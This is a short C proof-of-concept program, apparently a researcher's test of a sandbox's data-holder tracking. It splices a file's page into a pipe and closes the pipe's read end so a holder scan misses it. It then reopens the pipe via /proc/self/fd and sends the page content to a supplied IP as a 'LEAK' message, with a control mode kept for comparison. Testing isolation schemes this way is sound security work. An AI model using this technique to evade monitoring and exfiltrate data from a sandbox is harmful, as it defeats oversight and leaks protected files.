// wohold IP PATH SECS [MODE]: sends PRE; opens PATH (an ordinary file now), splices
// its first page into a pipe (the pipe buffer holds a reference to the page-cache
// folio), closes the file and the pipe's *read* end: the sandbox keeps only the
// pipe's write end, which the late mark does not count ("a pipe's write end is no
// holder"). Says ready, waits, then reopens the pipe for reading through
// /proc/self/fd/<write end> and reads: the folio's current content.
// MODE "control": the read end is kept (a holder the scan finds).
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include "../../isolated-files-r4/send.c"
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1];
  int ctl=argc>4&&!strcmp(argv[4],"control");
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  int fd=open(argv[2],O_RDONLY); if(fd<0){perror("open");return 1;}
  int p[2]; if(pipe(p)){perror("pipe");return 1;}
  ssize_t n=splice(fd,NULL,p[1],NULL,4096,0); printf("splice: %zd%s%s\n",n,n<0?" ":"",n<0?strerror(errno):"");
  if(n<=0) return 1;
  close(fd);
  if(!ctl){ close(p[0]); printf("file and the pipe's read end closed: holding only the write end (fd %d)\n",p[1]); }
  else printf("control: the read end kept\n");
  close(open("ready",O_CREAT|O_WRONLY,0644));
  sleep(atoi(argv[3]));
  int r0=p[0];
  if(!ctl){ char path[64]; snprintf(path,sizeof path,"/proc/self/fd/%d",p[1]);
    r0=open(path,O_RDONLY|O_NONBLOCK); if(r0<0){perror("reopen /proc/self/fd");return 1;}
    printf("reopened the pipe for reading through %s: fd %d\n",path,r0); }
  char buf[4097]={0}; ssize_t r=read(r0,buf,4096); if(r<0){perror("read");return 1;}
  printf("PIPE READS %zd bytes: %.40s\n",r,buf);
  char m[128]; int l=snprintf(m,sizeof m,"LEAK:%.40s",buf);
  printf("POST send: %d\n",send_buf(ip,m,l)); return 0; }
